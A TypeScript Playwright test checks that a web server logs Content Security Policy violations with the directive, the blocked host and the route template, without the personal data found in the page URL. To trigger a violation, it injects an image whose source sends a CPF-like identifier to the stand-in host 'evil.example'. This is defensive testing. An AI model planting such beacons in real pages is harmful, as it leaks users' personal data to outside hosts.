import type { Browser } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest'
import { openBrowser } from '../../tools/browser.ts'
import { openTest } from '../server/kit.ts'

let browser: Browser
beforeAll(async () => {
  browser = await openBrowser()
}, 120_000)
afterAll(() => browser.close())

describe('a browser', () => {
  it('[T06ey] tells the server what the policy of a page kept from happening, and of the page no more than its template', async () => {
    const { app, lines } = await openTest()
    const { port } = new URL(await app.listen({ host: '127.0.0.1', port: 0 }))
    const page = await browser.newPage()
    await page.goto(`http://localhost:${port}/sol/ana-souza/52998224725`)
    await page.evaluate(() => {
      const picture = document.createElement('img')
      picture.src = 'https://evil.example/a.png?cpf=52998224725'
      document.body.append(picture)
    })
    const told = () => lines.map((line) => JSON.parse(line)).filter(({ directive }) => directive)
    await vi.waitFor(() => expect(told().length).toBeGreaterThan(0), { timeout: 15_000 })
    expect(told()).toContainEqual(
      expect.objectContaining({
        directive: 'img-src',
        blocked: 'evil.example',
        route: '/sol/:nome/:idCorretor',
      }),
    )
    expect(lines.join('')).not.toMatch(/52998|ana-souza/)
    await page.close()
    app.server.closeAllConnections()
    await app.close()
  })
})
